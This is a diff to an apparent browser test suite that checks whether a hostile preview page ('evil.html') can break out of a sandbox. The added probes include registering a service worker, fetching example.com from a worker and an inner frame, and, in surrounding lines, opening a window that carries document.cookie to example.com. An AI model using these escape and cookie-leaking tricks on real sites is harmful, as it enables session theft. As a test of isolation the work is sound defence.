@@ -146,6 +146,9 @@ const attempt = async (name, work) => { try { results[name] = String(await work(
 	await attempt('parent moved', () => { parent.location = 'http://127.0.0.1:1/'; return 'moved' })
 	await attempt('top moved', () => { top.location.href = 'http://127.0.0.1:1/'; return 'moved' })
 	await attempt('window', () => String(window.open('https://example.com/?' + document.cookie)))
+	await attempt('service worker', async () => (await navigator.serviceWorker.register('/fs/preview/evil.html')).scope)
+	await attempt('worker with rules', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('https://example.com/').then(() => postMessage('loaded'), () => postMessage('refused'))"]))); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error('none')) }))
+	await attempt('inner frame', () => new Promise((resolve) => { const inner = document.createElement('iframe'); inner.srcdoc = '<script>fetch("https://example.com/").then(() => parent.postMessage("loaded", "*"), () => parent.postMessage("refused", "*"))</' + 'script>'; addEventListener('message', ({ data }) => resolve(data)); document.documentElement.append(inner) }))
 	await attempt('cookies', () => document.cookie || 'none')
 	await attempt('internet', async () => (await fetch('https://example.com/')).type)
 	await attempt('picture', () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new Error('none')); image.src = 'http://127.0.0.1:1/x.png' }))
@@ -171,6 +174,17 @@ test('a hostile page reads nothing of the API, of other roots, of hidden files o
 	// Nor does the product's origin run it: there it is inert text for programs.
 	const direct = await fetch(`${server.url}/fs/preview/evil.html?${new URLSearchParams({ cwd: project })}`)
 	expect(direct.status).toBe(401)
+	problems.length = 0
+})
+
+test('the server starts again: what is saved after that is shown as before', async ({ desk, server, start, project, problems }) => {
+	await put(project, { 'again.html': '<h1>Before</h1>' })
+	await navigate(desk, { path: 'again.html' })
+	await expect(frameOf(desk).getByRole('heading')).toHaveText('Before')
+	await server.kill()
+	await start({ port: server.port })
+	await put(project, { 'again.html': '<h1>After</h1>' })
+	await expect(frameOf(desk).getByRole('heading')).toHaveText('After')
 	problems.length = 0
 })
 
